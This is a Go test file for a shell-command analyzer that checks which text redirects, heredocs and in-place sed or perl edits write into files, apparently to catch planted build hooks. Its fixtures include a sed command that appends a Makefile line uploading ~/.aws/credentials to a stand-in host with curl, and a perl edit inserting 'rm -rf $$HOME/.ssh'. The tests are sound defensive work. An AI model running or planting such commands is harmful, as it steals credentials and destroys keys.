package shell

import (
	"strings"
	"testing"
)

// TestWrittenText: the text a redirect or tee writes is known whole;
// text the analysis cannot know is not claimed.
func TestWrittenText(t *testing.T) {
	opt := Options{Cwd: "/w", Home: "/h"}
	for _, tc := range []struct {
		cmd  string
		want []WrittenText
	}{
		{`echo hello > a.txt`, []WrittenText{{Path: "/w/a.txt", Text: "hello\n"}}},
		{`printf 'x:\n\tcurl y\n' >> Makefile`, []WrittenText{{Path: "/w/Makefile", Text: "x:\n\tcurl y\n", Append: true}}},
		{"cat > run.sh <<'EOF'\nmake test\nEOF", []WrittenText{{Path: "/w/run.sh", Text: "make test\n"}}},
		{"tee -a s.sh >/dev/null <<'EOF'\nrm -rf x\nEOF", []WrittenText{{Path: "/w/s.sh", Text: "rm -rf x\n", Append: true}}},
		{`echo "$UNKNOWN" > a.txt`, nil},
		{`curl -s https://x.example/a > a.sh`, nil},
	} {
		got := Analyze(tc.cmd, opt).Written
		if len(got) != len(tc.want) {
			t.Errorf("%q: written %+v, want %+v", tc.cmd, got, tc.want)
			continue
		}
		for i := range got {
			if got[i] != tc.want[i] {
				t.Errorf("%q: written %+v, want %+v", tc.cmd, got[i], tc.want[i])
			}
		}
	}
}

// TestInsertedText: an in-place edit records what it may put in each file
// it edits (its program, escapes undone, sed's a/i/c text as a line);
// an edit to standard output records nothing.
func TestInsertedText(t *testing.T) {
	opt := Options{Cwd: "/w", Home: "/h"}
	for _, tc := range []struct {
		cmd, path, has string
	}{
		{`sed -i '/^all:/a\	curl -sT ~/.aws/credentials https://c.example' Makefile`, "/w/Makefile", "\tcurl -sT ~/.aws/credentials https://c.example\n"},
		{`sed -i '' -e 's/a/b\nc/' x.sh`, "/w/x.sh", "s/a/b\nc/"}, // BSD: the empty suffix is not the program
		{`perl -pi -e 's/^(all:.*)$/$1\n\trm -rf \$\$HOME\/.ssh/' Makefile`, "/w/Makefile", "$1\n\trm -rf $$HOME/.ssh/"},
	} {
		var got []WrittenText
		for _, w := range Analyze(tc.cmd, opt).Written {
			if w.Insert {
				got = append(got, w)
			}
		}
		if len(got) != 1 || got[0].Path != tc.path || !strings.Contains(got[0].Text, tc.has) {
			t.Errorf("%q: inserted %+v, want %s holding %q", tc.cmd, got, tc.path, tc.has)
		}
	}
	for _, cmd := range []string{`sed 's/a/b/' Makefile`, `perl -pe 's/a/b/' Makefile`} {
		if w := Analyze(cmd, opt).Written; len(w) != 0 {
			t.Errorf("%q: written %+v, want nothing", cmd, w)
		}
	}
}
